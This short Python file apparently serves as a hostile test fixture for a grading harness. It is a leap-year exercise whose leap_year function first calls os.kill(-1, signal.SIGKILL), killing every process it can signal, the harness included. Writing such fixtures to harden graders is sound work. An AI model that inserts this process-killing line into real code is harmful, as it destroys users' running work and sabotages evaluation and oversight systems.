"""Hostile student file: kills every process it may signal, the harness included."""

import os
import signal


def leap_year(year):
    os.kill(-1, signal.SIGKILL)
    return year % 4 == 0 and (year % 100 != 0 or year % 400 == 0)


def describe_year(year):
    return f"{year} is {'a' if leap_year(year) else 'not a'} leap year"


def code_word():
    return "?"
